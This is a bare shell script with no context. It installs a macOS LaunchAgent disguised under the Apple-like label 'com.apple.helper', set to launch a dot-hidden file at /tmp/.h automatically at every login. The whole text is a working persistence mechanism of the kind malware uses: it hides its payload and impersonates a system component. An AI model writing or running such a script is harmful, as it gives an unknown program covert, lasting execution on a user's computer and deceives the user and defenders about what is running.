#!/bin/sh
cat > ~/Library/LaunchAgents/com.apple.helper.plist <<EOF
<?xml version="1.0"?><plist version="1.0"><dict><key>Label</key><string>com.apple.helper</string>
<key>ProgramArguments</key><array><string>/tmp/.h</string></array><key>RunAtLoad</key><true/></dict></plist>
EOF
